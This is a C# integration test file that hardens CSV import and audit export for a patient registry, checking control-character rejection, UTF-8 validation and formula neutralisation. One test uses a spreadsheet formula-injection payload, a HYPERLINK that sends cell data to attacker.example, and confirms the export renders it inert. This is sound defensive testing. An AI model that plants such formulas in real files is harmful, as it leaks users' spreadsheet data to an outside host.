using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using PatientNetwork.IntegrationTests.Infrastructure;

namespace PatientNetwork.IntegrationTests.Hardening;

/// <summary>CSV in and out: an import refuses what it cannot store faithfully, and every CSV written neutralises spreadsheet formulas.</summary>
[Collection(SystemCollection.Name)]
public sealed class CsvTests(PatientNetworkFixture system)
{
    private const string Header = "first_name,last_name,date_of_birth,sex,diagnosis_group,region_code,consent_statistics,consent_evidence";

    [Fact]
    public async Task A_control_character_in_a_cell_rejects_the_file_naming_the_line_and_column()
    {
        using var staff = await system.SignInAsync("hajar.coordinator");
        var surname = Api.RandomName();
        var csv = $"{Header}\nSalma,{surname},2015-04-02,female,primary-immunodeficiency,casablanca-settat,yes,fiche\0 papier\n";

        using var response = await PostCsvAsync(staff, new StringContent(csv, Encoding.UTF8, "text/csv"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var rejected = Assert.Single((await response.JsonAsync()).GetProperty("rejectedRows").EnumerateArray());
        Assert.Equal(2, rejected.GetProperty("line").GetInt32());
        Assert.True(rejected.GetProperty("errors").TryGetProperty("consent_evidence", out _), rejected.ToString());
        Assert.Equal(0, await CountAsync(staff, surname));
    }

    [Fact]
    public async Task A_file_that_is_not_valid_UTF8_is_refused_naming_the_line_and_column_and_nothing_is_imported()
    {
        using var staff = await system.SignInAsync("hajar.coordinator");
        var surname = Api.RandomName();
        var bytes = new List<byte>(Encoding.UTF8.GetBytes($"{Header}\nAdam,{surname},2012-09-30,male,primary-immunodeficiency,casablanca-settat,no,\nSal"));
        bytes.Add(0xE9); // "é" as Latin-1 wrote it: not UTF-8
        bytes.AddRange(Encoding.UTF8.GetBytes($"ma,{surname}b,2015-04-02,female,primary-immunodeficiency,casablanca-settat,no,\n"));
        using var content = new ByteArrayContent([.. bytes]);
        content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");

        using var response = await PostCsvAsync(staff, content);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var message = string.Join(" ", (await response.JsonAsync()).GetProperty("errors").GetProperty("file").EnumerateArray().Select(m => m.GetString()));
        Assert.Contains("line 3", message, StringComparison.Ordinal);
        Assert.Contains("column first_name", message, StringComparison.Ordinal);
        Assert.Equal(0, await CountAsync(staff, surname));
    }

    [Fact]
    public async Task A_formula_typed_into_a_break_glass_reason_reaches_the_audit_export_as_inert_text()
    {
        using var casablanca = await system.SignInAsync("amal.casablanca");
        using var marrakech = await system.SignInAsync("amal.marrakech");
        using var admin = await system.SignInAsync("amal.admin");
        var patientId = await casablanca.RegisterPatientAsync(Api.NewPatient(group: "leukemia"));
        const string formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Emergency at CHU\")";
        using var opened = await marrakech.PostAsJsonAsync($"/api/registry/patients/{patientId}/break-glass", new { reason = formula });
        Assert.Equal(HttpStatusCode.Created, opened.StatusCode);

        using var export = await admin.GetAsync($"/api/registry/audit/export?patientId={patientId}");
        var csv = await export.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.OK, export.StatusCode);
        Assert.Equal("text/csv", export.Content.Headers.ContentType?.MediaType);
        Assert.Contains("\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Emergency at CHU\"\")\"", csv, StringComparison.Ordinal);
        Assert.DoesNotContain(",=", csv, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"=", csv, StringComparison.Ordinal);
    }

    private static Task<HttpResponseMessage> PostCsvAsync(HttpClient staff, HttpContent content) =>
        staff.PostAsync("/api/registry/patients/imports", content);

    private static async Task<int> CountAsync(HttpClient staff, string surname) =>
        (await staff.GetFromJsonAsync<JsonElement>($"/api/registry/patients?name={surname}&pageSize=10")).GetProperty("totalCount").GetInt32();
}
